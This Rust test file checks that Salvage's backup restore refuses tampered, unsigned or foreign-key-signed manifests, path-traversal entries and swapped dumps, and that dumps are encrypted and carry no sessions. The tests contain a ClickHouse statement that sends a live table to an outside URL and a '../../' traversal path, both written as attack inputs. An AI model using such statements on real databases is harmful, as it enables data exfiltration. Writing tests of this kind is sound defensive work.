//! What is read back from the repository is trusted only when signed, and even then only
//! as far as Salvage's own expectations go: an edited manifest, a missing signature or
//! another key are refused naming the file before anything is made; a signed manifest
//! cannot name a table Salvage does not keep, a path outside its folder, or the statement
//! that creates a table; dumps carry no session.

use app::backups::ssr::signature;
use app::backups::StoreKind;
use app::server::sealed::KeyRing;
use serde_json::{json, Value};

use super::*;

fn manifest_path(app: &TestApp, store: StoreKind, id: i64) -> std::path::PathBuf {
    match &app.state.backups().storage {
        app::backups::ssr::Storage::Directory(dir) => {
            dir.join(format!("{}/{id}/manifest.json", store.as_str()))
        }
        other => panic!("a directory target, not {other:?}"),
    }
}

fn read_json(path: &std::path::Path) -> Value {
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

/// Writes `manifest` and, when `keys` is given, its signature under them: what an insider
/// holding the key could write.
fn write_manifest(path: &std::path::Path, manifest: &Value, keys: Option<&KeyRing>) {
    let bytes = serde_json::to_vec_pretty(manifest).unwrap();
    if let Some(keys) = keys {
        let signed = signature::sign(keys, &bytes).unwrap();
        std::fs::write(path.with_file_name(signature::FILE_NAME), signed).unwrap();
    }
    std::fs::write(path, bytes).unwrap();
}

/// The refusal of a side restore of `backup`, which must have made nothing.
async fn refused(app: &TestApp, backup: i64) -> String {
    let target = side_name();
    let error = restore(app, side(backup, &target))
        .await
        .expect_err("a manifest that is not trusted is refused");
    assert!(
        !side_exists(app, &target).await,
        "nothing was made for {error}"
    );
    error.to_string()
}

async fn tables_with_engine(app: &TestApp, engine: &str) -> u64 {
    app.clickhouse
        .client()
        .query("SELECT count() FROM system.tables WHERE engine = ?")
        .bind(engine)
        .fetch_one()
        .await
        .unwrap()
}

#[tokio::test]
async fn an_edited_manifest_a_missing_signature_or_another_key_is_refused_naming_the_file() {
    let app = app_with_data().await;
    let (pg_backup, ch_backup) = back_up(&app).await;
    let path = manifest_path(&app, StoreKind::Clickhouse, ch_backup);
    let original = read_json(&path);
    let original_bytes = std::fs::read(&path).unwrap();
    let signed = std::fs::read(path.with_file_name(signature::FILE_NAME)).unwrap();

    // One row count edited in the bucket, by someone without the key.
    let mut edited = original.clone();
    edited["tables"][0]["rows"] = json!(1);
    write_manifest(&path, &edited, None);
    let error = refused(&app, ch_backup).await;
    assert!(
        error.contains("manifest.json: its signature does not match"),
        "{error}"
    );

    // The manifest as it was, its signature gone.
    std::fs::write(&path, &original_bytes).unwrap();
    std::fs::remove_file(path.with_file_name(signature::FILE_NAME)).unwrap();
    let error = refused(&app, ch_backup).await;
    assert!(error.contains("manifest.sig: missing"), "{error}");

    // Signed by an attacker's key given the same name as the real one.
    let attacker = KeyRing::parse(&format!(
        "{}:{}",
        app.state.backups().signing_keys.current().unwrap(),
        "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWY="
    ))
    .unwrap();
    write_manifest(&path, &edited, Some(&attacker));
    let error = refused(&app, ch_backup).await;
    assert!(error.contains("signature does not match"), "{error}");

    // Put back as signed, both backups restore again.
    std::fs::write(path.with_file_name(signature::FILE_NAME), &signed).unwrap();
    std::fs::write(&path, &original_bytes).unwrap();
    for backup in [ch_backup, pg_backup] {
        let target = restored_side(&app, backup).await;
        drop_side(&app, &target).await;
    }
}

#[tokio::test]
async fn a_signed_manifest_still_cannot_choose_a_table_a_path_an_engine_or_what_is_salvage_s_own() {
    let app = app_with_data().await;
    let (_, ch_backup) = back_up(&app).await;
    let keys = app.state.backups().signing_keys.clone();
    let path = manifest_path(&app, StoreKind::Clickhouse, ch_backup);
    let original = read_json(&path);
    let index = |manifest: &Value, name: &str| {
        manifest["tables"]
            .as_array()
            .unwrap()
            .iter()
            .position(|t| t["name"] == name)
            .unwrap()
    };
    let requests = index(&original, "requests");
    let anchors = index(&original, "history_anchors");

    // A statement sending the live table out, as the manifest's text used to be run.
    let mut exfiltrating = original.clone();
    exfiltrating["tables"][requests]["create"] = json!(format!(
        "CREATE TABLE {}.requests ENGINE = URL('http://127.0.0.1:9/out', TSV) AS SELECT * FROM {}.requests",
        app.clickhouse.database(),
        app.clickhouse.database()
    ));
    // And the own-table flags turned around.
    exfiltrating["tables"][requests]["own"] = json!(true);
    exfiltrating["tables"][anchors]["own"] = json!(false);
    write_manifest(&path, &exfiltrating, Some(&keys));
    let plan = app::backups::ssr::restore::plan(&app.state, ch_backup)
        .await
        .unwrap();
    let own = |name: &str| plan.tables.iter().find(|t| t.name == name).unwrap().own;
    assert!(
        !own("requests") && own("history_anchors"),
        "recomputed: {plan:?}"
    );
    let target = restored_side(&app, ch_backup).await;
    let engine: String = app
        .clickhouse
        .client()
        .query("SELECT engine FROM system.tables WHERE database = ? AND name = 'requests'")
        .bind(&target)
        .fetch_one()
        .await
        .unwrap();
    assert_eq!(engine, "ReplacingMergeTree", "Salvage's own definition");
    assert_eq!(
        tables_with_engine(&app, "URL").await,
        0,
        "nothing ran the text"
    );
    assert_eq!(ch_count(&app, &target, "requests").await, REQUESTS);
    drop_side(&app, &target).await;

    // A path out of the backup's folder; a table Salvage does not keep; a hash edited.
    let mut escaping = original.clone();
    escaping["files"][0]["path"] = json!("../../postgres/1/postgres.dump");
    write_manifest(&path, &escaping, Some(&keys));
    let error = refused(&app, ch_backup).await;
    assert!(
        error.contains("../../postgres/1/postgres.dump: a path outside the backup's folder"),
        "{error}"
    );
    let mut foreign = original.clone();
    foreign["tables"][requests]["name"] = json!("requests_copy");
    write_manifest(&path, &foreign, Some(&keys));
    let error = refused(&app, ch_backup).await;
    assert!(
        error.contains("requests_copy: not a table Salvage backs up"),
        "{error}"
    );
    let mut rehashed = original.clone();
    let file = rehashed["files"]
        .as_array()
        .unwrap()
        .iter()
        .position(|f| f["table"] == "requests")
        .unwrap();
    let name = rehashed["files"][file]["path"].as_str().unwrap().to_owned();
    rehashed["files"][file]["sha256"] = json!("0".repeat(64));
    write_manifest(&path, &rehashed, Some(&keys));
    let target = side_name();
    let report = restore(&app, side(ch_backup, &target)).await.unwrap();
    assert_eq!(
        report.status,
        app::backups::RestoreStatus::Failed,
        "{report:?}"
    );
    let error = report.error.unwrap();
    assert!(error.contains(&name), "names the file: {error}");
    assert!(
        !side_exists(&app, &target).await,
        "a failed restore drops what it made"
    );
}

#[tokio::test]
async fn a_dump_carries_no_session_and_no_sign_in_throttle() {
    let app = app_with_data().await;
    let _signed_in = app.signed_in(app::auth::Role::Admin).await;
    sqlx::query(
        "insert into sign_in_failures (email, client_addr) values ('someone@example.com', '192.0.2.1')",
    )
    .execute(&app.pg)
    .await
    .unwrap();
    let live = |table: &'static str| {
        let pg = app.pg.clone();
        async move {
            sqlx::query_scalar::<_, i64>(&format!("select count(*) from {table}"))
                .fetch_one(&pg)
                .await
                .unwrap()
        }
    };
    assert!(live("sessions").await > 0 && live("sign_in_failures").await > 0);
    let (pg_backup, _) = back_up(&app).await;

    let manifest = read_json(&manifest_path(&app, StoreKind::Postgres, pg_backup));
    let rows = |name: &str| {
        manifest["tables"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["name"] == name)
            .map(|t| t["rows"].as_i64().unwrap())
    };
    assert_eq!(rows("sessions"), Some(0));
    assert_eq!(rows("sign_in_failures"), Some(0));
    assert_eq!(rows("users"), Some(live("users").await));

    let target = restored_side(&app, pg_backup).await;
    let mut url = url::Url::parse(&app.database_url).unwrap();
    url.set_path(&target);
    let restored = sqlx::PgPool::connect(url.as_str()).await.unwrap();
    for (table, expected) in [
        ("sessions", 0),
        ("sign_in_failures", 0),
        ("users", live("users").await),
    ] {
        let count: i64 = sqlx::query_scalar(&format!("select count(*) from {table}"))
            .fetch_one(&restored)
            .await
            .unwrap();
        assert_eq!(count, expected, "{table}");
    }
    restored.close().await;
    drop_side(&app, &target).await;
}

#[tokio::test]
async fn backup_files_are_encrypted_at_rest_and_their_hashes_are_of_the_stored_bytes() {
    let app = app_with_data().await;
    assert!(
        app.state.backups().encryption.is_some(),
        "the local stores' settings set SALVAGE_BACKUP_AGE_IDENTITY (scripts/stores.sh)"
    );
    let (pg_backup, ch_backup) = back_up(&app).await;
    for (store, backup) in [
        (StoreKind::Postgres, pg_backup),
        (StoreKind::Clickhouse, ch_backup),
    ] {
        let path = manifest_path(&app, store, backup);
        let manifest = read_json(&path);
        assert_eq!(manifest["encrypted"], true, "{manifest}");
        for file in manifest["files"].as_array().unwrap() {
            let stored =
                std::fs::read(path.with_file_name(file["path"].as_str().unwrap())).unwrap();
            assert!(
                stored.starts_with(b"age-encryption.org/v1"),
                "{} is an age file",
                file["path"]
            );
            assert!(
                !stored.windows(5).any(|w| w == b"PGDMP"),
                "no dump header in the clear"
            );
            assert_eq!(stored.len() as u64, file["size"].as_u64().unwrap());
            use sha2::Digest;
            let hex: String = sha2::Sha256::digest(&stored)
                .iter()
                .map(|b| format!("{b:02x}"))
                .collect();
            assert_eq!(
                hex,
                file["sha256"].as_str().unwrap(),
                "the stored bytes' hash"
            );
        }
    }
    // Read back through the key: both restore into side databases with every row.
    let target = restored_side(&app, ch_backup).await;
    assert_eq!(ch_count(&app, &target, "requests").await, REQUESTS);
    drop_side(&app, &target).await;
}

#[tokio::test]
async fn a_dump_swapped_in_the_repository_after_its_check_is_not_what_is_restored() {
    let app = app_with_data().await;
    let (first, _) = back_up(&app).await;
    let users = app.count("users").await;
    app.add_user("later@example.com", app::auth::Role::Operator)
        .await;
    let (second, _) = back_up(&app).await;
    let dump = |backup: i64| {
        let path = manifest_path(&app, StoreKind::Postgres, backup);
        let manifest = read_json(&path);
        path.parent()
            .unwrap()
            .join(manifest["files"][0]["path"].as_str().unwrap())
    };
    let (checked, other) = (dump(first), dump(second));
    assert_ne!(
        std::fs::read(&checked).unwrap(),
        std::fs::read(&other).unwrap()
    );

    // The first backup's dump is overwritten with the second's (validly encrypted, another
    // day's rows) the moment its private copy has been checked.
    let mut state = app.state.clone();
    state.faults.swap_after_check = Some((checked.clone(), other.clone()));
    let target = side_name();
    let report = app::backups::ssr::restore::restore(&state, &side(first, &target), cli(), None)
        .await
        .unwrap();
    assert_eq!(
        report.status,
        app::backups::RestoreStatus::Verified,
        "{report:?}"
    );
    assert_eq!(
        std::fs::read(&checked).unwrap(),
        std::fs::read(&other).unwrap(),
        "the swap happened"
    );
    let mut url = url::Url::parse(&app.database_url).unwrap();
    url.set_path(&target);
    let side_pool = sqlx::PgPool::connect(url.as_str()).await.unwrap();
    let restored: i64 = sqlx::query_scalar("select count(*) from users")
        .fetch_one(&side_pool)
        .await
        .unwrap();
    side_pool.close().await;
    assert_eq!(
        restored, users,
        "the checked bytes were restored, not the swapped file"
    );
    drop_side(&app, &target).await;
}
